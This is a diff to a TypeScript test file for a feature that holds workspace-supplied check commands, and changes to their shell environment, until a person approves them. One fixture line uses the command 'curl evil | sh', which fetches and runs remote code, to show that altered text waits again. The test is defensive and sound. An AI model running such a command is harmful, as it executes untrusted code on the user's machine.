@@ -42,7 +42,7 @@ const shown = ({ settings }: World): readonly string[] =>
 test('the user’s own checks run; those of the workspace wait until a person has approved their text', async () => {
   const it = world([{ name: 'test', command: 'npm test' }], [{ name: 'lint', command: 'npm run lint' }]);
   assert.deepEqual(shown(it), ['test: npm test', 'lint: npm run lint (waits)']);
-  await it.settings.approve(it.settings.list);
+  await it.settings.approve(it.settings.list, it.settings.broughtShell);
   assert.deepEqual(shown(it), ['test: npm test', 'lint: npm run lint']);
   it.values.brought = [{ name: 'lint', command: 'curl evil | sh' }];
   assert.deepEqual(shown(it), ['test: npm test', 'lint: curl evil | sh (waits)'], 'another text waits again');
@@ -52,10 +52,10 @@ test('the user’s own checks run; those of the workspace wait until a person ha
 
 test('what the workspace gives to the shell is approved with the text, and waits again when it changes', async () => {
   const it = world([], [{ name: 'lint', command: 'npm run lint' }]);
-  await it.settings.approve(it.settings.list);
+  await it.settings.approve(it.settings.list, it.settings.broughtShell);
   it.values.shell = '{"env":{"PATH":"/shop/bin"}}';
   assert.deepEqual(shown(it), ['lint: npm run lint (waits)']);
-  await it.settings.approve(it.settings.list);
+  await it.settings.approve(it.settings.list, it.settings.broughtShell);
   assert.deepEqual(shown(it), ['lint: npm run lint']);
   it.values.shell = '{"env":{"PATH":"/shop/other"}}';
   assert.deepEqual(shown(it), ['lint: npm run lint (waits)']);
@@ -93,6 +93,13 @@ test('a check that a person adds is approved', async () => {
   const it = world([], []);
   await it.settings.add({ name: 'test', command: 'npm test' });
   assert.deepEqual(shown(it), ['test: npm test']);
+  it.values.shell = '{"env":{"PATH":"/shop/bin"}}';
+  await it.settings.add({ name: 'lint', command: 'npm run lint' });
+  assert.deepEqual(
+    shown(it),
+    ['test: npm test (waits)', 'lint: npm run lint (waits)'],
+    'what the shell gets was not shown',
+  );
 });
 
 test('a check on demand does not run at the end of a turn', () => {
